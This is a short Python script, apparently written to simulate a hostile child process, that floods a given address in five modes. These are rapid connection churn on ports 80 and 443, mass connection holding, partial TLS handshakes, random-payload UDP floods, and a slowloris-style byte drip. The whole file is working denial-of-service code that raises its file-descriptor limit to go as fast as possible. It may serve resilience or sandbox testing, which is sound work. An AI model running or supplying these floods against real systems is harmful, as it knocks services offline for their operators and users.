#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""What a child who wants to do harm does, as fast as it goes, until it is killed.

usage: flood.py opened|hold|halves|udp|drips ADDRESS
"""

import itertools
import os
import random
import resource
import socket
import sys
import time

# A hello that says that more of it comes.
HALF_HELLO = bytes.fromhex("16030107d0010007cc0303") + bytes(200)
PORTS = (80, 443)


def connections(address, n_kept, first=b""):
    """Connects again and again without waiting; the last @n_kept are kept open."""
    kept = []
    for number in itertools.count():
        sock = socket.socket()
        sock.setblocking(False)
        kept.append(sock)
        try:
            sock.connect((address, PORTS[number % 2]))
        except OSError:
            pass
        if len(kept) > n_kept // 2:
            old = kept[-(n_kept // 2)]
            try:
                old.send(first)
            except OSError:
                pass
        if len(kept) > n_kept:
            kept.pop(0).close()
        yield number


def opened(address):
    for number in connections(address, 64):
        report(number)


def halves(address):
    for number in connections(address, 600, HALF_HELLO):
        report(number)


def hold(address):
    """As many at one time as the machine gives; says "refused" when one is."""
    held = []
    for number in itertools.count():
        try:
            held.append(socket.create_connection((address, PORTS[number % 2]), timeout=5))
        except ConnectionRefusedError:
            print("refused", flush=True)
            time.sleep(0.1)
        except OSError:
            time.sleep(0.001)
        report(len(held))


def udp(address):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for number in itertools.count():
        if number % 4 == 0:
            sock.close()
            sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            sock.sendto(os.urandom(random.randrange(1, 1200)),
                        (address, random.choice((443, random.randrange(1024, 65536)))))
        except OSError:
            pass
        report(number)


def drips(address):
    """500 connections, a byte a second on each."""
    hello = HALF_HELLO + bytes(1000)
    held = [socket.socket() for _ in range(500)]
    for number in itertools.count():
        for index, sock in enumerate(held):
            try:
                sock.send(hello[number % len(hello):][:1])
            except OSError:
                held[index] = socket.socket()
                held[index].setblocking(False)
                try:
                    held[index].connect((address, 443))
                except OSError:
                    pass
        report(number)
        time.sleep(1)


def report(number):
    if number % 100 == 0:
        print(number, flush=True)


if __name__ == "__main__":
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
    {"opened": opened, "hold": hold, "halves": halves, "udp": udp,
     "drips": drips}[sys.argv[1]](sys.argv[2])
